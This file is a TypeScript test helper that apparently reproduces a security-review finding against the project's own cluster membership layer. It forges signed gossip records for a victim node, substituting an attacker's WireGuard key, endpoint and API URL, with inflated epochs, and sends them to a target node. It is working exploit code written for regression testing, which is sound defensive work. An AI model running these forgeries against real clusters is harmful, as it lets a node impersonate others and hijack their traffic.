// A member that holds the cluster secret tries to speak for another node (security review 2, finding 2).
// Runs inside a namespace:
//
//   node --import tsx test/helpers/forge-record.ts VICTIM_URL VICTIM_ID TARGET_URL TARGET_ID SECRETFILE FROM ATTACKER_IP [REPEAT]
//
// Fetches the victim's own (signed) record, then gossips to the target, signed as FROM like
// src/control/client.ts signs, three forgeries of it with the attacker's WireGuard key, endpoint and API
// URL: (1) the victim's sigKey and signature kept (fields and a newer epoch under them), (2) signed by the
// attacker's own key with the epoch 2^53−1 of the review, (3) signed by the attacker's key with a plausible
// newer epoch. With REPEAT, sends (3) that many times. Prints one JSON line: the HTTP statuses and the
// attacker's public key.
import { readFileSync } from 'node:fs';
import { request } from 'node:https';
import { Secret } from '../../src/base/secret.js';
import { authHeaderName, deriveAuthKey, signRequest } from '../../src/control/auth.js';
import { encodeKey, generatePrivateKey, publicKeyOf } from '../../src/crypto/keys.js';
import type { NodeRecord } from '../../src/membership/record.js';
import { recordAuth } from '../../src/membership/record-auth.js';

const [victimUrl, victimId, targetUrl, targetId, secretFile, from, attackerIp, repeat] = process.argv.slice(2);
const key = deriveAuthKey(new Secret(readFileSync(secretFile!, 'utf8').trim()));

function call(
  url: string,
  to: string,
  method: string,
  path: string,
  body?: unknown,
): Promise<{ status: number; body: string }> {
  const bytes = Buffer.from(body === undefined ? '' : JSON.stringify(body));
  const { header } = signRequest(key, { method, path, body: bytes, from: from!, to, now: Date.now() });
  return new Promise((res) => {
    const req = request(
      new URL(path, url),
      {
        method,
        headers: { [authHeaderName]: header, ...(body !== undefined && { 'content-type': 'application/json' }) },
        rejectUnauthorized: false,
        timeout: 5000,
      },
      (resp) => {
        let s = '';
        resp.on('data', (d) => (s += d));
        resp.on('end', () => res({ status: resp.statusCode ?? 0, body: s }));
      },
    );
    req.on('error', () => res({ status: -1, body: '' }));
    req.on('timeout', () => req.destroy());
    req.end(bytes);
  });
}

const got = await call(victimUrl!, victimId!, 'GET', '/v1/node');
const victim = JSON.parse(got.body) as NodeRecord;
const wgKey = generatePrivateKey();
const attacker = recordAuth(wgKey);
const theirs = {
  publicKey: encodeKey(publicKeyOf(wgKey)),
  endpoints: [`${attackerIp}:51820`],
  apiUrl: `https://${attackerIp}:4567`,
};
const copied: NodeRecord = { ...victim, ...theirs, epoch: victim.epoch + 1000 };
const maxEpoch = attacker.sign({ ...victim, ...theirs, epoch: Number.MAX_SAFE_INTEGER });
const newer = attacker.sign({ ...victim, ...theirs, epoch: victim.epoch + 1000, version: 0 });
const gossip = (r: NodeRecord) =>
  call(targetUrl!, targetId!, 'POST', '/v1/gossip', { type: 'gossip', from, updates: [{ t: 'alive', r }] });
const statuses: number[] = [];
for (const r of [copied, maxEpoch, newer]) statuses.push((await gossip(r)).status);
for (let i = 0; i < Number(repeat ?? 0); i++)
  statuses.push(
    (await gossip({ ...newer, version: i + 1, sig: attacker.sign({ ...newer, version: i + 1 }).sig })).status,
  );
console.log(JSON.stringify({ victimKey: victim.publicKey, attackerKey: theirs.publicKey, statuses }));
